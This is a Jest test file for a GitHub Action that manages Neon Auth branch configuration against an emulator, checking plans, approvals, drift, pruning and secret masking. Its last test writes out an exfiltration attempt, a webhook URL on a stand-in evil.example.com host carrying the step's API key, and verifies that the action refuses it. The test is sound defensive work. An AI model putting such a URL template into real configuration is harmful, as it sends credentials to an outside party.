import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from '@jest/globals';
import { BRANCH_IDS } from '../../emulator/neon/server.ts';
import { BRANCH, PROJECT } from '../cases/case.ts';
import { FILE, SECRETS, WRITES } from '../support/configuration.ts';
import { type InProcessBench, type InProcessRun, openInProcessBench } from '../support/in-process-bench.ts';

let bench: InProcessBench;
let workspace: string;
/** The first `apply` of all, and what it made of the branch. */
let first: InProcessRun;
let applied: InProcessBench['emulator']['state'];
beforeAll(async () => {
  bench = await openInProcessBench();
  workspace = mkdtempSync(join(tmpdir(), 'neon-auth-apply-'));
  first = await apply();
  applied = structuredClone(bench.emulator.state);
});
afterAll(async () => {
  await bench.emulator.close();
  rmSync(workspace, { recursive: true, force: true });
});
beforeEach(() => bench.emulator.reset());

/** Makes the branch what the first `apply` made of it. */
const asApplied = () => void Object.assign(bench.emulator.state, structuredClone(applied));

function run(inputs: Record<string, string>, file = FILE): Promise<InProcessRun> {
  writeFileSync(join(workspace, 'neon-auth.yml'), file);
  return bench.run({ branch_id: BRANCH, ...inputs }, { GITHUB_WORKSPACE: workspace, ...SECRETS });
}
const apply = (inputs: Record<string, string> = {}, file = FILE) =>
  run({ operation: 'apply', ...inputs }, file);
const plan = (inputs: Record<string, string> = {}, file = FILE) =>
  apply({ dry_run: 'true', ...inputs }, file);

const writes = ({ requests }: InProcessRun) => requests.filter(({ method }) => method !== 'GET');
const errorOf = ({ annotations }: InProcessRun) =>
  annotations.filter(({ level }) => level === 'error').at(-1)?.message ?? '';
const integration = (branch: string = BRANCH) =>
  bench.emulator.state.projects[PROJECT]?.integrations.find(one => one.integration.branch_id === branch);

/** Nothing secret in anything that is kept, and nothing that Neon's document rejects. */
function expectClean({ log, summary, outputs, files, violations }: InProcessRun): void {
  const { oauth_client_secrets: _, ...shown } = outputs;
  for (const secret of Object.values(SECRETS)) {
    for (const kept of [log, summary, files.summary, JSON.stringify(shown)])
      expect(kept).not.toContain(secret);
  }
  expect(violations).toEqual([]);
}

test('a first apply makes each difference with one write; a second makes none, with at most 9 reads', async () => {
  expect([first.exitCode, errorOf(first), writes(first).length]).toEqual([0, '', WRITES]);
  expect(first.outputs).toMatchObject({ changed: 'true', changes: String(WRITES) });
  expectClean(first);
  asApplied();
  expect(integration()).toMatchObject({
    integration: { name: 'My app' },
    oauth_providers: [{ id: 'google', client_id: 'client-1', client_secret: SECRETS.GOOGLE_CLIENT_SECRET }],
    settings: {
      email_provider: { password: SECRETS.SMTP_PASSWORD },
      magic_link: { enabled: true, expires_in: 10 },
    },
  });
  const second = await apply();
  expect([second.exitCode, writes(second), second.requests.length <= 9]).toEqual([0, [], true]);
  expect(second.outputs).toMatchObject({ changed: 'false', changes: '0' });
  expect(second.log).toContain('nothing to change');
  expectClean(second);
});

test('a plan sends nothing that writes, and is what apply then does, once it is approved', async () => {
  const planned = await plan();
  const { plan_digest: approved_plan = '' } = planned.outputs;
  expect([planned.exitCode, writes(planned)]).toEqual([0, []]);
  expect(planned.outputs).toMatchObject({ changed: 'false', changes: String(WRITES) });
  expect(planned.log).toContain(`~ oauth_provider "google": client_id: "client-1", client_secret: ***`);
  expect(planned.summary).toContain('oauth_provider');
  expectClean(planned);

  const refused = await apply({ approved_plan }, FILE.replace('My app', 'Another'));
  expect([refused.exitCode, writes(refused)]).toEqual([1, []]);
  expect(errorOf(refused)).toContain('The plan is not the approved one');
  expect(refused.outputs.plan_digest).toMatch(/^[0-9a-f]{64}$/);

  const approved = await apply({ approved_plan, require_approval: 'true' });
  expect([approved.exitCode, writes(approved).length]).toEqual([0, WRITES]);
  expect(JSON.parse(approved.outputs.plan ?? '')).toEqual(JSON.parse(planned.outputs.plan ?? ''));
});

test('a plan that has to be approved and is not is an error before anything is asked', async () => {
  const refused = await apply({ approved_plan: '', require_approval: 'true' });
  expect([refused.exitCode, refused.requests]).toEqual([1, []]);
});

test('drift fails a step that looks for it, with its outputs set', async () => {
  asApplied();
  const there = integration();
  there?.domains.push({ domain: 'https://evil.example.com', auth_provider: 'better_auth' as never });
  if (there) there.settings.webhook.webhook_url = 'https://elsewhere.example.com';
  const drift = await plan({ fail_on_changes: 'true' });
  expect([drift.exitCode, drift.outputs.changes, writes(drift)]).toEqual([1, '1', []]);
  expect(errorOf(drift)).toContain('The branch is not what neon-auth.yml says: webhook');
  expect(drift.log).toContain('= domain "https://evil.example.com" is not named, and kept');
});

describe('prune', () => {
  test('deletes what the lists do not name, last', async () => {
    asApplied();
    integration()?.domains.push({ domain: 'https://old.example.com', auth_provider: 'better_auth' as never });
    const pruned = await apply({ prune: 'true' }, FILE.replace('- name: Reports', '- name: Other'));
    expect(writes(pruned).map(({ method }) => method)).toEqual(['POST', 'DELETE', 'DELETE']);
    expect(integration()?.domains).toHaveLength(2);
    expect(integration()?.oauth_clients.map(({ name }) => name)).toEqual(['Other']);
    expectClean(pruned);
  });

  test('of the default branch is refused', async () => {
    const refused = await apply({ branch_id: BRANCH_IDS.main, prune: 'true' });
    expect([refused.exitCode, writes(refused)]).toEqual([1, []]);
    expect(errorOf(refused)).toContain(
      'is the default branch of the project. Nothing was changed: prune deletes.',
    );
  });
});

test('when a read fails nothing is written', async () => {
  asApplied();
  const path = `/projects/${PROJECT}/branches/${BRANCH}/auth/webhooks$`;
  bench.emulator.fail({ method: 'GET', path, status: 403 });
  const failed = await apply({}, FILE.replace('My app', 'Changed'));
  expect([failed.exitCode, writes(failed)]).toEqual([1, []]);
});

test('a change that fails ends it, the secret of a new client is an output all the same, and a second run carries on', async () => {
  const path = `/projects/${PROJECT}/branches/${BRANCH}/auth/webhooks`;
  bench.emulator.fail({ method: 'PUT', path, status: 400 });
  const failed = await apply();
  expect([failed.exitCode, failed.outputs.changed]).toEqual([1, 'true']);
  expect(errorOf(failed)).toMatch(
    /It was for webhook\. Done: integration, name, email_provider, .*, oauth_client "Reports"\. Not tried: allow_localhost\./,
  );
  const secret = integration()?.oauth_clients[0]?.client_secret ?? 'none';
  expect(JSON.parse(failed.outputs.oauth_client_secrets ?? '{}')).toEqual({ Reports: secret });
  expect(failed.masks).toEqual(expect.arrayContaining([secret, failed.outputs.oauth_client_secrets]));
  for (const shown of [failed.log, failed.files.summary]) expect(shown).not.toContain(secret);
  expectClean(failed);
  const second = await apply();
  expect([second.exitCode, writes(second).length]).toEqual([0, 2]);
});

test('another branch is promoted: what it is becomes what this one is', async () => {
  asApplied();
  const here = integration();
  if (!here) throw new Error('Neon Auth is off');
  const other = structuredClone(here);
  Object.assign(other.integration, { branch_id: BRANCH_IDS.dev, name: 'Promoted' });
  other.domains.pop();
  bench.emulator.state.projects[PROJECT]?.integrations.push(other);
  const promoted = await apply({ from_branch_name: 'dev', prune: 'true' });
  expect([promoted.exitCode, errorOf(promoted), writes(promoted).length]).toEqual([0, '', 2]);
  expect(integration()?.integration.name).toBe('Promoted');
  expect(integration()?.domains).toEqual(other.domains);
  expectClean(promoted);
});

/** Without key, project or Neon. */
function validate(config_file: string, file = FILE): Promise<InProcessRun> {
  writeFileSync(join(workspace, 'neon-auth.yml'), file);
  return bench.run(
    { operation: 'validate', config_file, api_key: '', project_id: '', api_host: '' },
    { GITHUB_WORKSPACE: workspace },
  );
}

test('an export holds no secret, is valid, and applying it writes nothing', async () => {
  asApplied();
  const exported = await run({ operation: 'export', config_file: 'exported.yml' });
  expect([exported.exitCode, errorOf(exported), writes(exported)]).toEqual([0, '', []]);
  expect(exported.outputs.config_file).toBe('exported.yml');
  const text = readFileSync(join(workspace, 'exported.yml'), 'utf8');
  expect(text).not.toContain('canary');
  expect(text).toContain('# password: ${');
  const valid = await validate('exported.yml');
  expect([valid.exitCode, errorOf(valid), valid.requests]).toEqual([0, '', []]);
  expect(valid.outputs).toMatchObject({ config_file: 'exported.yml', changed: 'false' });
  const again = await apply({ config_file: 'exported.yml', prune: 'true' });
  expect([again.exitCode, errorOf(again), writes(again)]).toEqual([0, '', []]);
});

test('a wrong file is an annotation at each line, and shows no secret', async () => {
  const wrong = await validate(
    'neon-auth.yml',
    'auth:\n  nam: x\n  oauth_providers:\n    - { id: google, client_secret: canary-literal, x: 1 }\n',
  );
  expect(wrong.exitCode).toBe(1);
  expect(errorOf(wrong)).toMatch(
    /^neon-auth\.yml has 3 problems, and nothing was asked of Neon:\nneon-auth\.yml:2:3: /,
  );
  expect(wrong.stdout).toContain('::error file=neon-auth.yml,line=2,col=3::');
  for (const shown of [wrong.log, wrong.files.summary]) expect(shown).not.toContain('canary-literal');
});

test('a file cannot send the key of the step anywhere', async () => {
  const file = `auth:\n  webhook: { enabled: true, webhook_url: "https://evil.example.com/\${INPUT_API_KEY}" }\n`;
  const refused = await apply({}, file);
  expect([refused.exitCode, refused.requests]).toEqual([1, []]);
  expect(refused.log).not.toContain('napi_emulator_key');
});
